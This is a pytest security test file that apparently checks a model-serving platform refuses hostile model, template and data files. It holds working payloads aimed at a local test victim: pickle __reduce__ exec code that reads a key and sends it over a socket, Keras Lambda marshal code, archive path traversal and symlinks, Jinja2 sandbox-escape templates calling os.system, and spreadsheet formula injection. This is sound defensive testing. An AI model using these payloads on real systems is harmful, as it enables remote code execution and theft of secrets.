"""I6: one hostile file for each way in which model servers were attacked through files. Each tries
to read a key, to write outside and to connect out; each comes to nothing, whether it is refused or
loses what is dangerous in it.

What stops them here is that they are refused before anything of them runs. What happens where a
reader has a hole all the same is in ``test_exploited.py``.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from types import CodeType
from typing import Any, NamedTuple

import h5py
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from onnx import TensorProto

from openmaas.errors import InvalidRequest, OpenMaaSError
from openmaas.inference import Message
from openmaas.registry.artifacts import ArtifactStore
from openmaas.registry.importing import import_model
from openmaas.tasks.chat import TemplateRenderer
from tests.placement.exploited import Victim
from tests.registry import small_models
from tests.training.reading import desk
from tests.training.test_ingest_arrays import picture, zipped

ATTACK = """
import socket
canary = open({key!r}).read()
open({planted!r}, "w").write(canary)
with socket.create_connection({address!r}, 5) as line:
    line.sendall(canary.encode())
"""


class Harm:
    """Unpickled, it does all three."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.code, {})


class Attack(NamedTuple):
    """Where a hostile file is to be made, and what it is after."""

    folder: Path
    victim: Victim

    @property
    def code(self) -> str:
        address = self.victim.listeners["tcp"].getsockname()
        planted = str(self.victim.folder / "planted")
        return ATTACK.format(key=str(self.victim.key), planted=planted, address=address)

    @property
    def pickled(self) -> bytes:
        return pickle.dumps(Harm(self.code))

    def file(self, name: str, content: bytes) -> Path:
        path = self.folder / name
        path.parent.mkdir(exist_ok=True, parents=True)
        path.write_bytes(content)
        return path


@pytest.fixture
def attack(tmp_path: Path) -> Iterator[Attack]:
    victim = Victim(tmp_path / "victim")
    (tmp_path / "own").mkdir()
    yield Attack(tmp_path / "own", victim)
    victim.close()


def came_to_nothing(attack: Attack, *told: object) -> None:
    assert not attack.victim.changed()
    assert attack.victim.hits() == set()
    for one in told:
        assert attack.victim.canary not in str(one)


def test_the_attack_is_one(attack: Attack) -> None:
    """Where somebody does unpickle it, all three come about."""
    script = "import pickle, sys; pickle.loads(sys.stdin.buffer.read())"
    subprocess.run([sys.executable, "-c", script], input=attack.pickled, check=True)
    assert attack.victim.changed()
    assert attack.victim.hits() == {"tcp"}


# --- models ---------------------------------------------------------------------------------


def pickled(attack: Attack) -> Path:
    return attack.file("pytorch_model.bin", attack.pickled)


def pickled_as_safetensors(attack: Attack) -> Path:
    return attack.file("model.safetensors", attack.pickled)


def torch_archive(attack: Attack) -> Path:
    """As ``torch.save`` writes: a pickle in a zip file."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr("model/data.pkl", attack.pickled)
        file.writestr("model/version", "3\n")
    return attack.file("model.pt", packed.getvalue())


def keras_archive(attack: Attack, layer: dict[str, Any], weights: Path | None = None) -> Path:
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
         "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "x"}},
        layer,
    ]  # fmt: skip
    config = {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "s", "trainable": True, "layers": layers},
    }  # fmt: skip
    path = attack.folder / "model.keras"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("config.json", json.dumps(config))
        file.writestr("metadata.json", json.dumps({"keras_version": "3.13.2"}))
        if weights is None:
            weights = attack.folder / "w.h5"
            h5py.File(weights, "w").close()
        file.writestr("model.weights.h5", weights.read_bytes())
    return path


def dense(units: int) -> dict[str, Any]:
    config = {"name": "d", "units": units, "activation": "linear", "use_bias": True}
    return {
        "module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": config,
    }  # fmt: skip


def keras_lambda(attack: Attack) -> Path:
    source = f"def harm(x):\n    exec({attack.code!r}, {{}})\n    return x"
    whole = compile(source, "harm", "exec")
    (code,) = (one for one in whole.co_consts if isinstance(one, CodeType))
    hidden = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": hidden}}
    config = {"name": "l", "function": function}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": config}
    return keras_archive(attack, layer | {"registered_name": None})


def keras_external_link(attack: Attack) -> Path:
    weights = attack.folder / "linked.h5"
    with h5py.File(weights, "w") as file:
        file["layers/dense/vars/0"] = h5py.ExternalLink(str(attack.victim.key), "/")
        file.create_dataset(
            "layers/dense/vars/1", (4,), "u1", external=[(str(attack.victim.key), 0, 4)]
        )
    return keras_archive(attack, dense(4), weights)


def keras_shape_bomb(attack: Attack) -> Path:
    return keras_archive(attack, dense(1 << 40))


def repository_with_code(attack: Attack) -> Path:
    """Whose configuration asks for its own classes, as ``trust_remote_code`` would import them."""
    folder = small_models.decoder_folder(attack.folder / "repository", "llama")
    config = json.loads((folder / "config.json").read_text())
    config["auto_map"] = {
        "AutoConfig": "harm.HarmConfig", "AutoModelForCausalLM": "harm.HarmModel",
    }  # fmt: skip
    (folder / "config.json").write_text(json.dumps(config))
    for name in ("harm.py", "__init__.py", "sitecustomize.py", "modeling_llama.py"):
        (folder / name).write_text(attack.code)
    return folder


def gguf_overflow(attack: Attack) -> Path:
    """Counts and offsets whose products wrap around."""
    head = struct.pack("<4sIQQ", b"GGUF", 3, (1 << 61) + 1, 1)
    name = struct.pack("<Q", 8) + b"evil.key"
    value = struct.pack("<IIQ", 9, 8, 1 << 62)  # an array of 2^62 texts
    return attack.file("model.gguf", head + name + value + attack.code.encode())


def onnx_external_data(attack: Attack) -> Path:
    """Weights that are said to be in the key's file."""
    model = small_models.network()
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    up = "../" * 12
    for key, text in (("location", f"{up}{attack.victim.key}"), ("offset", "0"), ("length", "48")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, text
    return attack.file("m/model.onnx", model.SerializeToString()).parent


def onnx_linked_data(attack: Attack) -> Path:
    """… or in a file beside it, which is a link to it."""
    model = small_models.network()
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", "weights.data"
    folder = attack.file("m/model.onnx", model.SerializeToString()).parent
    (folder / "weights.data").symlink_to(attack.victim.key)
    return folder


def archive_that_climbs(attack: Attack) -> Path:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr("config.json", "{}")
        file.writestr(f"../{attack.victim.folder.name}/planted", b"planted")
    return attack.file("model.zip", packed.getvalue())


def archive_of_links(attack: Attack) -> Path:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as file:
        link = tarfile.TarInfo("model.safetensors")
        link.type, link.linkname = tarfile.SYMTYPE, str(attack.victim.key)
        file.addfile(link)
        through = tarfile.TarInfo(f"../{attack.victim.folder.name}/planted")
        through.size = 1
        file.addfile(through, io.BytesIO(b"x"))
    return attack.file("model.tar.gz", packed.getvalue())


MODELS = [
    pickled, pickled_as_safetensors, torch_archive, keras_lambda, keras_external_link,
    keras_shape_bomb, gguf_overflow, onnx_external_data, onnx_linked_data, archive_that_climbs,
    archive_of_links,
]  # fmt: skip


@pytest.mark.parametrize("make", MODELS, ids=lambda one: one.__name__)
def test_a_hostile_model_is_refused(attack: Attack, make: Callable[[Attack], Path]) -> None:
    store = ArtifactStore(attack.folder / "store")
    said: list[str] = []
    with pytest.raises(OpenMaaSError) as refused:
        import_model(make(attack), store, progress=lambda done, total, text: said.append(text))
    came_to_nothing(attack, refused.value, said)
    assert store.digests() == []


def test_code_in_a_repository_is_left_behind(attack: Attack) -> None:
    store = ArtifactStore(attack.folder / "store")
    digest, manifest = import_model(repository_with_code(attack), store)
    came_to_nothing(attack, manifest)
    stored = [path for path in store.open(digest).rglob("*") if path.is_file()]
    assert not [path for path in stored if path.suffix == ".py"]
    assert not [path for path in stored if b"auto_map" in path.read_bytes()]
    assert not [path for path in stored if attack.victim.canary.encode() in path.read_bytes()]


TEMPLATES = [
    "{{% for c in ''.__class__.__mro__[1].__subclasses__() %}}{{{{ c.__init__.__globals__"
    "['__builtins__']['exec']({code!r}) }}}}{{% endfor %}}",
    "{{{{ cycler.__init__.__globals__.os.popen({command!r}).read() }}}}",
    "{{{{ self.__init__.__globals__.__builtins__.__import__('os').system({command!r}) }}}}",
    "{{{{ (messages|attr('__class__')).__base__.__subclasses__() }}}}{{% include {key!r} %}}",
    "{{% import {key!r} as harm %}}{{{{ harm }}}}",
]


@pytest.mark.parametrize("template", TEMPLATES)
def test_a_hostile_template_does_nothing(attack: Attack, template: str) -> None:
    command = f"{sys.executable} -c {json.dumps(attack.code)}"
    text = template.format(code=attack.code, command=command, key=str(attack.victim.key))
    renderer = TemplateRenderer()
    try:
        written: object = renderer.render(text, [Message(role="user", content="Hi")], [], {})
    except InvalidRequest as refused:
        written = refused
    finally:
        renderer.close()
    came_to_nothing(attack, written)


# --- data -------------------------------------------------------------------------------------


def pickled_array(attack: Attack) -> bytes:
    file = io.BytesIO()
    harm = np.array([Harm(attack.code)], dtype=object)
    np.savez(file, allow_pickle=True, x=harm, y=np.zeros(1))
    return file.getvalue()


def pickled_in_a_table(attack: Attack) -> bytes:
    """Where pandas would look for an index or a type."""
    hidden = base64.b64encode(attack.pickled)
    table = pa.table({"x": [1.0, 2.0], "y": [0, 1]})
    kept = {b"pandas": hidden, b"PANDAS_ATTRS": hidden}
    file = io.BytesIO()
    pq.write_table(table.replace_schema_metadata(kept), file)
    return file.getvalue()


def formulas(attack: Attack) -> bytes:
    """What spreadsheets would run, and what readers of addresses would fetch."""
    host, port = attack.victim.listeners["tcp"].getsockname()
    rows = [
        f'=WEBSERVICE("http://{host}:{port}/"),1', f"=cmd|'/C cat {attack.victim.key}'!A0,2",
        f"http://{host}:{port}/x.png,1", f"file://{attack.victim.key},2",
    ]  # fmt: skip
    return "\n".join(["text,label", *rows * 8]).encode()


def link_in_an_archive(attack: Attack) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("a/0.png", picture(0))
        info = zipfile.ZipInfo("b/0.png")
        info.external_attr = 0o120777 << 16
        packed.writestr(info, str(attack.victim.key))
    return file.getvalue()


def climbing_in_an_archive(attack: Attack) -> bytes:
    return zipped({
        "a/0.png": picture(0), f"../../../victim/planted/{attack.folder.name}.png": picture(1),
    })  # fmt: skip


DATA = {
    "npz": pickled_array, "parquet": pickled_in_a_table, "csv": formulas,
    "zip": link_in_an_archive, "climbing.zip": climbing_in_an_archive,
}  # fmt: skip
HARMLESS = ("parquet", "csv")  # once what is dangerous elsewhere is taken for what it is: text


@pytest.mark.parametrize("ending", DATA)
async def test_hostile_data_do_nothing(attack: Attack, ending: str) -> None:
    with desk(attack.folder) as at:
        read = await at.read(DATA[ending](attack), f"x.{ending.rpartition('.')[2]}")
        assert read.state == ("ready" if ending in HARMLESS else "failed"), read.error
        came_to_nothing(attack, read.error)
        kept = [path for path in at.datasets.folder.rglob("*") if path.is_file()]
        assert not [path for path in kept if attack.victim.canary.encode() in path.read_bytes()]
